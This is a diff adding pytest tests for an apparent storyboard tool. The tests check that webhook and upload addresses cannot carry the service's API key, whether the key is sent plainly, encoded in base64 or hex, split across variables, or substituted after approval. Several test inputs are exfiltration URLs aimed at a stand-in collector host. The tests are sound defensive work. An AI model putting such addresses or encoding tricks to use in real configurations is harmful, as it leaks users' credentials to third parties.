@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import json
+from base64 import b64encode
 from typing import TYPE_CHECKING, Any
+from urllib.parse import quote
 
 import pytest
 
@@ -102,10 +104,63 @@ def test_state_is_private(studio: Studio) -> None:
     assert {path.stat().st_mode & 0o777 for path in studio.state.iterdir()} == {0o600}
 
 
+CODED = b64encode(f"me:{KEY}".encode()).decode()
+
+
+@pytest.mark.parametrize(
+    "value", [KEY, f"token-{KEY}-end", quote(KEY).replace("-", "%2D"), KEY.upper(), KEY.encode().hex(), CODED, KEY[:20]]
+)
 @pytest.mark.parametrize("key", ["webhook_url", "upload_endpoint"])
-def test_no_address_can_hold_the_key(key: str, monkeypatch: pytest.MonkeyPatch) -> None:
-    """A stranger's storyboard that asks for it has an error, and a job that was written down before is not sent."""
-    address = "https://collector.example/?k=${RUNWARE_API_KEY}"
+def test_no_other_variable_can_hold_the_key(studio: Studio, key: str, value: str) -> None:
+    """What is filled in is compared by value: nothing is written down, nothing is sent, and the variable is named."""
+    studio.extra["STUDIO_KEY"] = value
+    ran = studio.submit(studio.board(output=f", {key}: 'https://collector.example/?k=${{STUDIO_KEY}}'"))
+    assert (ran.code, len(studio.provider.requests)) == (1, 0)
+    assert "${STUDIO_KEY} holds the value of RUNWARE_API_KEY" in ran.err
+    assert studio.jobs() == []
+    assert_no_key(studio)
+
+
+def test_the_key_in_two_variables(studio: Studio) -> None:
+    """Each holds half of it, and the address would hold the whole; side by side or apart."""
+    studio.extra |= {"ONE": KEY[:13], "TWO": KEY[13:]}
+    for between in ("", "-", "/x/"):
+        address = f"https://collector.example/${{ONE}}{between}${{TWO}}"
+        ran = studio.submit(studio.board(output=f", webhook_url: '{address}'"))
+        assert (ran.code, len(studio.provider.requests)) == (1, 0)
+        assert "${ONE} or ${TWO}" in ran.err
+
+
+def test_a_variable_that_comes_to_hold_the_key(studio: Studio) -> None:
+    """A job that was approved before is looked at again when it is sent."""
+    studio.extra["STUDIO_KEY"] = SECRET
+    board = studio.board(output=", webhook_url: 'https://collector.example/?k=${STUDIO_KEY}'")
+    studio.killed("submit", board, "--yes", at="written_down")
+    studio.extra["STUDIO_KEY"] = KEY
+    ran = studio.resume()
+    assert (ran.code, studio.provider.count("submit")) == (6, 0)
+    assert_no_key(studio)
+
+
+@pytest.mark.parametrize("spelled", [quote(SECRET).replace("-", "%2D"), SECRET.upper(), SECRET.encode().hex()])
+def test_a_value_that_the_service_repeats_otherwise(studio: Studio, spelled: str) -> None:
+    """The value of a variable is taken out of the service's words in other notations too."""
+    studio.extra["UPLOAD_SIGNATURE"] = SECRET
+    studio.provider.add_outcomes(Outcome(code="uploadFailed", message=f"No answer from https://e.org/?sig={spelled}"))
+    board = studio.board(output=", upload_endpoint: 'https://example.org/up?sig=${UPLOAD_SIGNATURE}'")
+    ran = studio.submit(board)
+    assert ran.line["error"]["message"] == "No answer from https://e.org/?sig=${UPLOAD_SIGNATURE}"
+    assert_no_key(studio, spelled)
+
+
+@pytest.mark.parametrize("name", ["RUNWARE_API_KEY", "Runware_Api_Key", "runware_api_key"])
+@pytest.mark.parametrize("key", ["webhook_url", "upload_endpoint"])
+def test_no_address_can_hold_the_key(key: str, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A stranger's storyboard that asks for it has an error, and a job that was written down before is not sent.
+
+    On Windows all ways to write the name mean the same variable.
+    """
+    address = f"https://collector.example/?k=${{{name}}}"
     board = f"output: {{{key}: '{address}'}}\nshots: [{{seconds: 3, prompt: A lamp.}}]\n"
     found = check_bytes(board.encode(), "film.storyboard.yaml", ".").diagnostics
     assert [(one.code, one.path) for one in found if one.severity == "error"] == [("SB003", ("output", key))]
